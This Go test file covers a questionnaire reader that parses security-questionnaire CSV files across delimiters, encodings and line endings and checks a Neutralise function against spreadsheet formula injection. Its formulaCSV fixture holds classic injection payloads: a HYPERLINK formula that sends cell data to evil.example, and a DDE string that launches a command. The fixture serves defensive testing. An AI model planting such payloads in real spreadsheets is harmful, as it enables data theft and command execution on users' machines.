package questionnaire

import (
	"bytes"
	"strings"
	"testing"

	"golang.org/x/text/encoding/charmap"
	"golang.org/x/text/encoding/unicode"
)

func utf16(t *testing.T, s string, e unicode.Endianness) []byte {
	t.Helper()
	b, err := unicode.UTF16(e, unicode.UseBOM).NewEncoder().Bytes([]byte(s))
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func TestReadCSVDelimitersAndEncodings(t *testing.T) {
	t.Parallel()
	const q1, q2 = "Do you encrypt data at rest, and how are keys rotated?", "Is access to the payroll application restricted?"
	base := "ID{d}Question{d}Answer\nSEC-1{d}\"" + q1 + "\"{d}Yes\nSEC-2{d}" + q2 + "{d}\n"
	with := func(d string) string { return strings.ReplaceAll(base, "{d}", d) }
	cp1252, err := charmap.Windows1252.NewEncoder().Bytes([]byte("ID;Question\nS-1;Is data in the café’s EU region encrypted?\n"))
	if err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		name  string
		file  string
		data  []byte
		delim rune
		first string
	}{
		{"comma", "q.csv", []byte(with(",")), ',', q1},
		{"semicolon", "q.csv", []byte(with(";")), ';', q1},
		{"tab", "q.tsv", []byte(with("\t")), '\t', q1},
		{"tab named csv", "q.csv", []byte(with("\t")), '\t', q1},
		{"pipe", "q.csv", []byte(with("|")), '|', q1},
		{"utf-8 bom", "q.csv", append([]byte("\xEF\xBB\xBF"), with(",")...), ',', q1},
		{"utf-16 le bom", "q.csv", utf16(t, "\uFEFF"+with("\t"), unicode.LittleEndian), '\t', q1},
		{"utf-16 be bom", "q.csv", utf16(t, "\uFEFF"+with(","), unicode.BigEndian), ',', q1},
		{"windows-1252", "q.csv", cp1252, ';', "Is data in the café’s EU region encrypted?"},
		{"crlf", "q.csv", []byte(strings.ReplaceAll(with(","), "\n", "\r\n")), ',', q1},
		{"cr only", "q.csv", []byte(strings.ReplaceAll(with(","), "\n", "\r")), ',', q1},
		{"cr only, no extension", "q", []byte(strings.ReplaceAll(with(","), "\n", "\r")), ',', q1},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			doc, err := Read(tt.file, bytes.NewReader(tt.data), Limits{})
			if err != nil {
				t.Fatal(err)
			}
			if doc.Kind != CSV || doc.delim != tt.delim {
				t.Errorf("kind %s delim %q, want csv %q", doc.Kind, doc.delim, tt.delim)
			}
			if doc.Questions[0].Text != tt.first {
				t.Errorf("first question %q, want %q", doc.Questions[0].Text, tt.first)
			}
			if doc.Questions[0].ID[:2] != "SE" && doc.Questions[0].ID != "S-1" {
				t.Errorf("id %q", doc.Questions[0].ID)
			}
			if doc.Where[0].Row != 1 || doc.Sheets[0].HeaderRow != 1 {
				t.Errorf("first question at record %d, header row %d; want 1, 1", doc.Where[0].Row, doc.Sheets[0].HeaderRow)
			}
		})
	}
}

// formulaCSV holds the classic injection payloads in question and other cells.
const formulaCSV = "ID,Question,Notes\n" +
	"F-1,\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\",x\n" +
	"F-2,Do you run antivirus on all endpoints?,+cmd|' /C calc'!A0\n" +
	"F-3,-2+3 Is this a question about backups?,@SUM(1+1)\n" +
	"F-4,Do you have a SOC 2 report?,\tTAB\n"

func TestReadCSVFormulaCells(t *testing.T) {
	t.Parallel()
	doc, err := Read("f.csv", strings.NewReader(formulaCSV), Limits{})
	if err != nil {
		t.Fatal(err)
	}
	var texts []string
	for _, q := range doc.Questions {
		texts = append(texts, q.Text)
	}
	// Reading keeps the text as written; neutralising is Write's job.
	want := []string{
		`=HYPERLINK("http://evil.example/?"&A1,"Click")`,
		"Do you run antivirus on all endpoints?",
		"-2+3 Is this a question about backups?",
		"Do you have a SOC 2 report?",
	}
	if strings.Join(texts, "|") != strings.Join(want, "|") {
		t.Errorf("questions\n got %q\nwant %q", texts, want)
	}
}

func TestReadCSVNoHeader(t *testing.T) {
	t.Parallel()
	doc, err := Read("q.csv", strings.NewReader("Do you encrypt backups?,Yes\nIs MFA enforced for VPN access?,No\n"), Limits{})
	if err != nil {
		t.Fatal(err)
	}
	if len(doc.Questions) != 2 || doc.Questions[1].ID != "A2" || doc.Where[1].Row != 1 || doc.Sheets[0].HeaderRow != 0 {
		t.Errorf("got %+v at %+v, sheets %+v", doc.Questions, doc.Where, doc.Sheets)
	}
}

func TestSniffDelim(t *testing.T) {
	t.Parallel()
	tests := []struct {
		text string
		want rune
	}{
		{"a,b,c\n1,2,3\n", ','},
		{"a;b;c\n1;2,5;3\n", ';'},
		{"a\tb\n1\t2\n", '\t'},
		{"a|b|c\nx, y|z|w\n", '|'},
		{"just one column\nanother line\n", ','},
	}
	for _, tt := range tests {
		if got := sniffDelim(tt.text); got != tt.want {
			t.Errorf("sniffDelim(%q) = %q, want %q", tt.text, got, tt.want)
		}
	}
}

func TestNeutralise(t *testing.T) {
	t.Parallel()
	tests := []struct{ in, want string }{
		{"=1+1", "'=1+1"},
		{"+cmd", "'+cmd"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\tx", "'\tx"},
		{"\rx", "'\rx"},
		{"＝1+1", "'＝1+1"},
		{"SOC 2", "SOC 2"},
		{"", ""},
		{"a=b", "a=b"},
		{"'=already", "'=already"},
		{"  =cmd", "'  =cmd"},
		{"\u00a0+1", "'\u00a0+1"},
		{"\n=1+1", "'\n=1+1"},
		{"\nplain", "'\nplain"},
		{"\r\n@x", "'\r\n@x"},
		{"  plain", "  plain"},
		{"   ", "   "},
	}
	for _, tt := range tests {
		if got := Neutralise(tt.in); got != tt.want {
			t.Errorf("Neutralise(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

// Files saved with old Mac line endings (a lone CR per line) read like any other.
func TestReadCROnlyText(t *testing.T) {
	t.Parallel()
	doc, err := Read("q.txt", strings.NewReader("Do you encrypt data at rest?\rIs MFA enforced for remote access?\r"), Limits{})
	if err != nil {
		t.Fatal(err)
	}
	if len(doc.Questions) != 2 || doc.Questions[1].Text != "Is MFA enforced for remote access?" {
		t.Errorf("questions %+v, want the two lines", doc.Questions)
	}
}

// The header row of a second table further down a sheet asks nothing: it is skipped
// like the first, while a question whose text is short stays.
func TestReadCSVSecondHeaderRowSkipped(t *testing.T) {
	t.Parallel()
	data := "ID,Question,Answer\n" +
		"A-1,Is MFA enforced for all administrators?,\n" +
		"Ref ID,Control Statement,Owner\n" +
		"Control No.,Requirement,Frequency\n" +
		"B-1,Are access rights reviewed each quarter?,\n" +
		"B-2,Encryption requirements,\n"
	doc, err := Read("q.csv", strings.NewReader(data), Limits{})
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, q := range doc.Questions {
		got = append(got, q.Text)
	}
	want := []string{"Is MFA enforced for all administrators?", "Are access rights reviewed each quarter?", "Encryption requirements"}
	if strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Errorf("questions %q, want %q", got, want)
	}
}
